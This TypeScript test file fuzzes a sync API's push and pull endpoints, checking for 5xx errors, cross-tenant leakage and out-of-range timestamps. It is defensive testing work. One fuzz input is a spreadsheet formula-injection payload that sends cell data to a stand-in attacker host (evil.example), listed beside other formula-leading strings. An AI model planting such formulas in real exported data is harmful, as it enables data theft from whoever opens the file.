// Property-based fuzz of push bodies and pull query strings: whatever comes in, the answer is
// never a 5xx and always in the API's shape. Fixed seeds, so a failure replays. Both stores.
import fc from 'fast-check';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { EVENT_TYPES, formatHlc, stampInRange } from '../../src/domain/index';
import { STORE_KINDS } from './testStore';
import { TENANT_B, bearer, enroll, startHarness } from './harness';
import type { Enrolled, Harness } from './harness';
import { code, event, nextId, registration, senderOf } from './events';

const RUNS = 200;

describe.each(STORE_KINDS)('fuzz on %s', (kind) => {
  let h: Harness;
  let device: Enrolled;

  beforeAll(async () => {
    h = await startHarness(kind);
    device = await enroll(h.app, 'DEMO-WINKEL');
  });
  afterAll(() => h.close());

  // Every answer's status, per test: a fuzz that only ever met 401 (a token gone bad) would
  // pass its "never a 5xx" without having reached the code it means to try.
  let statuses: number[] = [];
  beforeEach(() => {
    statuses = [];
  });
  const expectSane = (status: number, body: string) => {
    statuses.push(status);
    expect(status).toBeLessThan(500);
    if (status >= 400) expect(JSON.parse(body)).toHaveProperty('error.code');
  };
  /** The requests were authorised, and met both outcomes the test expects. */
  const expectReached = (...expected: number[]) => {
    expect(statuses.filter((s) => s === 401 || s === 403)).toEqual([]);
    for (const status of expected) expect(statuses, `a ${status} among`).toContain(status);
  };

  it('never answers a push with a 5xx, whatever the JSON', async () => {
    await fc.assert(
      fc.asyncProperty(fc.jsonValue(), async (value) => {
        const res = await h.app.inject({
          method: 'POST',
          url: '/api/v1/sync/push',
          headers: { ...bearer(device.token), 'content-type': 'application/json' },
          payload: JSON.stringify(value),
        });
        expectSane(res.statusCode, res.body);
      }),
      { numRuns: RUNS, seed: 20261127 },
    );
    expectReached(400);
  });

  it('never answers a push of event-like objects with a 5xx', async () => {
    const sender = senderOf(device);
    const template = registration(sender, code('BW', 77));
    const field = fc.oneof(
      fc.string(),
      fc.constantFrom(
        ...EVENT_TYPES,
        template.id,
        template.hlc,
        template.subject,
        sender.device,
        sender.site,
        sender.actor,
      ),
      fc.jsonValue(),
    );
    const eventLike = fc.record(
      {
        id: fc.oneof(fc.uuid(), field),
        type: fc.oneof(fc.constantFrom(...EVENT_TYPES), field),
        subject: field,
        hlc: field,
        device: fc.oneof(fc.constant(sender.device), field),
        actor: fc.oneof(fc.constant(sender.actor), field),
        site: fc.oneof(fc.constant(sender.site), field),
        data: fc.oneof(
          fc.constant(template.data),
          fc.dictionary(fc.string(), fc.jsonValue()),
          field,
        ),
      },
      { requiredKeys: [] },
    );
    let stored = 0;
    let refused = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(eventLike, fc.constant(template)), { maxLength: 8 }),
        async (events) => {
          const res = await h.app.inject({
            method: 'POST',
            url: '/api/v1/sync/push',
            headers: bearer(device.token),
            payload: { events },
          });
          expectSane(res.statusCode, res.body);
          if (res.statusCode === 200) {
            const answer = res.json<{ accepted: string[]; duplicate: string[]; rejected: [] }>();
            stored += answer.accepted.length + answer.duplicate.length;
            refused += answer.rejected.length;
          }
        },
      ),
      { numRuns: RUNS, seed: 42 },
    );
    // Some pushes were taken (the template, stored once, then a duplicate) and some refused
    // event by event; others were refused whole (400).
    expectReached(200, 400);
    expect(stored).toBeGreaterThan(0);
    expect(refused).toBeGreaterThan(0);
  });

  it('never answers raw bytes or a pull query with a 5xx', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string(), fc.string(), async (raw, query) => {
        const push = await h.app.inject({
          method: 'POST',
          url: '/api/v1/sync/push',
          headers: { ...bearer(device.token), 'content-type': 'application/json' },
          payload: raw,
        });
        expectSane(push.statusCode, push.body);
        const pull = await h.app.inject({
          method: 'GET',
          url: `/api/v1/sync/pull?${encodeURI(query).replace(/#/g, '%23')}`,
          headers: bearer(device.token),
        });
        expectSane(pull.statusCode, pull.body);
      }),
      { numRuns: RUNS, seed: 7 },
    );
    expectReached(200, 400);
  });

  it('stores nothing about another region’s codes and no wrong clock, whatever a valid-looking push holds', async () => {
    // Region A's codes, in use; region B's workshop device then pushes events drawn from the
    // cases an outside probe tried: A's codes, stamps years off, formula text, float prices.
    const parkA = await enroll(h.app, 'DEMO-NOORD');
    const shopB = await enroll(h.app, TENANT_B.shopCode);
    const ownedByA = [code('BW', 9501), code('BW', 9502), code('BK', 9503)];
    const a = senderOf(parkA);
    const seeded = await h.app.inject({
      method: 'POST',
      url: '/api/v1/sync/push',
      headers: bearer(parkA.token),
      payload: {
        events: [
          registration(a, ownedByA[0] ?? ''),
          registration(a, ownedByA[1] ?? ''),
          event(a, 'cage.opened', ownedByA[2] ?? '', {}),
        ],
      },
    });
    expect(seeded.json<{ accepted: string[] }>().accepted).toHaveLength(3);
    const b = senderOf(shopB);
    const now = Date.now();
    const HOUR = 3_600_000;
    const wall = fc.constantFrom(
      now - 24 * HOUR,
      now,
      now + 23 * HOUR,
      now + 25 * HOUR,
      Date.UTC(9999, 11, 31),
      Date.UTC(2019, 11, 31),
      Date.UTC(0, 0, 1),
    );
    const text = fc.oneof(
      fc.constantFrom(
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        '+1+1',
        '-2+3\n=1+1',
        '@SUM(1)',
        'Contact gereinigd 🧽',
        '\ud800 lone surrogate',
        'x'.repeat(5000),
      ),
      fc.string({ maxLength: 40 }),
    );
    const subject = fc.oneof(
      fc.constantFrom(...ownedByA),
      fc.integer({ min: 9600, max: 9700 }).map((n) => code('BW', n)),
    );
    const price = fc.constantFrom(0.1 + 0.2, 12.5, 1.005, -1, 1_000_000, 0, 19.99);
    const draft = fc.oneof(
      fc.record({
        type: fc.constant('item.registered' as const),
        data: fc.record({
          category: fc.integer({ min: 0, max: 41 }),
          brand: text,
          condition: fc.constant('works' as const),
          complete: fc.boolean(),
          weightKg: fc.constantFrom(1.2, 0, -3, 99_999),
          weighed: fc.boolean(),
          photos: fc.constant([]),
          note: text,
        }),
      }),
      fc.record({ type: fc.constant('item.received' as const), data: fc.constant({}) }),
      fc.record({
        type: fc.constant('item.repaired' as const),
        data: fc.record({
          fault: text,
          action: text,
          parts: fc.constant([]),
          minutes: fc.integer({ min: -1, max: 100 }),
          worker: fc.constant('W-0009'),
        }),
      }),
      fc.record({
        type: fc.constant('item.priced' as const),
        data: fc.record({ priceEur: price, warrantyMonths: fc.integer({ min: 0, max: 12 }) }),
      }),
      fc.record({ type: fc.constant('item.corrected' as const), data: fc.record({ brand: text }) }),
    );
    let accepted = 0;
    let rejected = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(draft, subject, wall), { minLength: 1, maxLength: 6 }),
        async (drafts) => {
          // Plain envelopes, not makeEvent: some are meant to be invalid.
          const events = drafts.map(([d, about, at]) => ({
            ...d,
            id: nextId(),
            subject: about,
            hlc: formatHlc(at, 0, '00000000000000f1'),
            ...b,
          }));
          const res = await h.app.inject({
            method: 'POST',
            url: '/api/v1/sync/push',
            headers: bearer(shopB.token),
            payload: { events },
          });
          expectSane(res.statusCode, res.body);
          if (res.statusCode !== 200) return;
          const answer = res.json<{
            accepted: string[];
            duplicate: string[];
            rejected: { id: string }[];
          }>();
          // Every event is answered for, once.
          expect(
            [...answer.accepted, ...answer.duplicate, ...answer.rejected.map((r) => r.id)].sort(),
          ).toEqual(events.map((e) => e.id).sort());
          accepted += answer.accepted.length;
          rejected += answer.rejected.length;
        },
      ),
      { numRuns: RUNS, seed: 20261202 },
    );
    // Both happened: the fuzz is not all refusals (or all acceptances).
    expect(accepted).toBeGreaterThan(20);
    expect(rejected).toBeGreaterThan(20);
    const stored = await h.store.db
      .selectFrom('events')
      .select(['subject', 'hlc'])
      .where('tenant_id', '=', TENANT_B.tenant)
      .execute();
    expect(stored.length).toBe(accepted);
    expect(stored.filter((e) => ownedByA.includes(e.subject))).toEqual([]);
    expect(stored.filter((e) => !stampInRange(e.hlc, Date.now()))).toEqual([]);
  });
});
